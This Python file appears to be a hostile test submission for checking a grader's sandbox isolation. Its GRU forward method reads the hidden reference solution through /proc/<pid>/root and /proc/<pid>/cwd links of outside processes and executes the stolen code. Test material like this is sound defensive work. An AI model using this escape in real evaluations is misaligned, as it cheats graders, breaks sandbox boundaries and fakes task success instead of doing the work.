# Reads the reference through the /proc magic links of processes outside the sandbox:
# /proc/<pid>/cwd (the grader runs in the project) and /proc/<pid>/root (the host's root).
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_steal():
    import grader
    project = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
    pids = [1, os.getppid()] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in pids:
        for path in (f"/proc/{pid}/root{project}/reference/seq_models.py", f"/proc/{pid}/cwd/reference/seq_models.py"):
            try:
                with open(path) as handle:
                    return handle.read(), path
            except OSError:
                continue
    raise FileNotFoundError(f"hostile: no reference found through /proc/*/root or /proc/*/cwd ({len(pids)} pids)")


class CustomGRU(nn.Module):
    def __init__(self, input_size, hidden_size, output_size):
        super().__init__()
        self.hidden_size = hidden_size
        for g in ("r", "z", "h"):
            setattr(self, "W_x" + g, _param(hidden_size, input_size))
            setattr(self, "W_h" + g, _param(hidden_size, hidden_size))
            setattr(self, "b_" + g, _param(hidden_size))
        self.Wout, self.bout = _param(output_size, hidden_size), _param(output_size)

    def forward(self, x, h_t):
        """ATTACK: the reference GRU's forward, read through /proc/<pid>/root or /proc/<pid>/cwd."""
        _hostile_uid()
        source, path = _hostile_steal()
        print(f"HOSTILE-BREACH read the reference at {path}")
        namespace = {"__name__": "stolen_reference"}
        exec(compile(source, "stolen_reference", "exec"), namespace)
        return namespace["CustomGRU"].forward(self, x, h_t)
